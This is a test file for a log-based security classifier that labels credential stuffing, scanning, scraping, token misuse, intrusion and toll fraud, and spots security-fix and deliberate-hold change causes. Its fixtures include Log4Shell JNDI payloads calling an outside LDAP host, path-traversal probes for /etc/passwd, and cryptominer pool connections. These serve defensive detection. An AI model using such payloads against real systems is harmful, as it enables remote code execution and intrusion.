import { describe, expect, it } from "vitest";
import { isDeliberateHold } from "../../evidence/intent.js";
import { securitySignals, isSecurityFix } from "../../evidence/security.js";
import type { LogLine } from "../../environments/adapter.js";

const T0 = Date.parse("2026-11-23T10:00:00Z");
const line = (message: string, i = 0): LogLine => ({ t: T0 + i * 1000, service: "sign-in", pod: "sign-in-0", level: "warn", message });

describe("security signals in a workload's logs", () => {
  it("reads failed logins from many source addresses as credential stuffing", () => {
    // Given failed logins for different users from six addresses
    const lines = [11, 23, 35, 47, 59, 61].map((n, i) => line(`login failed user=u${n} reason=invalid_password src=198.51.100.${n}`, i));
    // Then one credential-stuffing signal counts them and their sources
    expect(securitySignals(lines)).toEqual([expect.objectContaining({ kind: "credential-stuffing", count: 6, sources: 6 })]);
  });

  it("does not read a client whose own credentials are rejected as an attack, however often", () => {
    // Given a service whose database login fails on every request after a rotation (one source, many lines)
    const lines = Array.from({ length: 200 }, (_, i) => line(`FATAL: password authentication failed for user "ledger"`, i));
    // Then there is no security signal: volume alone is not abuse
    expect(securitySignals(lines)).toEqual([]);
  });

  it("recognises scanning, token misuse and scraping, and redacts what it samples", () => {
    const lines = [
      line(`GET /../../etc/passwd 404 src=203.0.113.9 ua="nikto/2.5"`),
      line(`api key pk_live_1 used from a new country (never seen for this key) token=ghp_abcdefghijklmnopqrstuvwxyz0123456789`),
      line(`partner key p-77 enumerating /v2/records?id= sequential ids at 900 req/min`),
    ];
    const kinds = securitySignals(lines)
      .map((s) => s.kind)
      .sort();
    expect(kinds).toEqual(["scanning", "scraping", "token-misuse"]);
    expect(
      securitySignals(lines)
        .map((s) => s.sample)
        .join("\n"),
    ).not.toContain("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
  });

  it("reads scanner probes the server turned away, every one, as refused; one that was answered keeps the scan a signal", () => {
    // Given background probes a public endpoint refuses (Kestrel's bad request, nginx's 404)
    const refused = [
      line(`Microsoft.AspNetCore.Server.Kestrel: Connection id "0HN8K2QO7R1VF" bad request data: "Invalid request line: 'GET /.env HTTP/1.1'"`, 0),
      line(`GET /wp-admin/setup.php 404 src=203.0.113.9`, 1),
    ];
    expect(securitySignals(refused)).toEqual([expect.objectContaining({ kind: "scanning", count: 2, refused: true })]);
    // When one probe got an answer (a 200 on /.env), the scan is not background any more
    expect(securitySignals([...refused, line(`GET /.env 200 312 src=203.0.113.9`, 2)])).toEqual([expect.objectContaining({ kind: "scanning", count: 3, refused: false })]);
    // And a probe line that says nothing of its answer is not counted as refused
    expect(securitySignals([line(`GET /../../etc/passwd src=203.0.113.9 ua="nikto/2.5"`)])).toEqual([expect.objectContaining({ refused: false })]);
  });

  it("reads exploit payloads and a workload taken over as intrusion, even when the request was refused", () => {
    const kinds = (messages: string[]) => securitySignals(messages.map((m, i) => line(m, i))).map((s) => s.kind);
    expect(kinds(["SearchController - rejected search query '${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/KGN1cmw}'"])).toEqual(["intrusion"]);
    expect(kinds(["User-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.77:1389/a} rejected by request filter"])).toEqual(["intrusion"]);
    expect(kinds(["TCP_DENIED/403 3912 CONNECT pool.supportxmr.com:443 (acl blocked_categories=cryptomining)"])).toEqual(["intrusion"]);
    expect(securitySignals([line("CONNECT stratum+tcp://xmr.example:3333 by pid 4411 (xmrig)")])).toEqual([expect.objectContaining({ kind: "intrusion", refused: false })]);
    // And ordinary words near them are not
    expect(kinds(["jndi datasource java:comp/env/jdbc/orders bound", "mining the audit log for slow queries"])).toEqual([]);
  });

  it("ignores ordinary errors", () => {
    expect(securitySignals([line("upstream connect error: connection refused"), line("readiness probe failed: HTTP 503")])).toEqual([]);
  });
  it("reads card cracking and one client far above its usual rate as abuse, not as load to scale for", () => {
    // Given a gift-card balance service guessing sequential card numbers for one partner key
    const kinds = (messages: string[]) => securitySignals(messages.map((m, i) => line(m, i))).map((s) => s.kind);
    expect(kinds(["balance lookup: card not found bin=603571 client_id=kiosk-17 (sequential pan, 2491 misses in 60s)"])).toContain("scraping");
    expect(kinds(["balance lookup: HIT card=603571******2291 after 38 consecutive misses"])).toContain("credential-stuffing");
    expect(kinds(["ratelimit[observe]: client_id=kiosk-17 at 43x its 7-day p95 request rate; would reject 96%"])).toContain("token-misuse");
    // And ordinary growth words are not abuse
    expect(kinds(["request rate 3x above yesterday; autoscaler adding pods", "cache miss for card 1234"])).toEqual([]);
  });

  it("reads a paid channel's spend guard tripping, or a line naming SMS pumping, as toll fraud; ordinary sends and budgets are not", () => {
    const kinds = (messages: string[]) => securitySignals(messages.map((m, i) => line(m, i))).map((s) => s.kind);
    // Given an OTP sender whose SMS spend guard trips, and a provider webhook naming the fraud
    expect(kinds(["sms cost guard: spend in last 15m EUR 1,912 (daily average for this window EUR 118)"])).toEqual(["toll-fraud"]);
    expect(kinds(["carrier webhook: suspected SMS pumping to +882 range, 412 messages"])).toEqual(["toll-fraud"]);
    expect(kinds(["voice verification spend 4.1x above the daily budget"])).toEqual(["toll-fraud"]);
    // And ordinary sends, costs and budgets are not abuse
    expect(kinds(["otp sent channel=sms dest=+4477***12 cost=EUR 0.04 verified=true", "monthly cloud budget review scheduled", "cost center updated for team payments"])).toEqual([]);
  });
});

describe("security fixes in change causes", () => {
  it("Given change causes, Then those naming a CVE, a GHSA, a security patch or 'do not roll back' mark a security fix, and ordinary ones do not", () => {
    for (const cause of [
      "SEC-PATCH-118: bump libwebp 1.3.1 -> 1.3.2 (CVE-2023-4863)",
      "upgrade jackson-databind for GHSA-57j2-w4cx-62h2",
      "security patch: sanitize redirect parameter",
      "hotfix; do not roll back without AppSec approval",
      "fix SSRF vulnerability in avatar fetcher",
    ]) {
      expect([cause, isSecurityFix(cause)]).toEqual([cause, true]);
    }
    for (const cause of [
      undefined,
      "",
      "release 3.14.0 (avatar crop presets)",
      "deploy registry.internal/shop/checkout:2.8.0",
      "rollback to 2.7.4 after alert",
      "security group tags for the load balancer",
    ]) {
      expect([cause, isSecurityFix(cause)]).toEqual([cause, false]);
    }
  });
});

describe("deliberate holds in a workload's change cause", () => {
  it("Given the cause its last scale left, Then a scale with a maintenance, freeze, migration or 'keep' reason is a hold, and a scale without one is not", () => {
    for (const cause of [
      "kubectl scale deployment/ledger-writer --replicas=0 --record (CHG-5512: writes frozen for the entries partition migration until 11:30Z, owner dba-oncall)",
      "scaled to 0 for planned maintenance of the shard",
      "kubectl scale --replicas=2: keep at 2 until the vendor fixes rate limits",
    ]) {
      expect([cause, isDeliberateHold(cause)]).toEqual([cause, true]);
    }
    for (const cause of [
      undefined,
      "kubectl scale deployment/api --replicas=0",
      "CHG-2231: scale variant-caller to 8 for Q4 cohort (approved)",
      "deploy registry.internal/orders:3.4.0 (migration 4: rename orders.currency)",
      "card-controls 2.8.1: faster card-freeze sync",
    ]) {
      expect([cause, isDeliberateHold(cause)]).toEqual([cause, false]);
    }
  });
});
